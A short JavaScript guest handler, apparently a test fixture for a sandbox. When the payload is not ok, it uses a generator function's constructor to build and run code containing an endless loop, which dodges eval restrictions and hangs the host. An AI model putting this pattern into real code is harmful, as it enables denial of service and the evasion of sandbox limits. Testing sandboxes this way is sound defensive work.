// kind: guest
export default (msg, ctx) => {
	if (msg.payload.ok) return msg;
	(function*(){}).constructor('for(;;){}')().next()
}
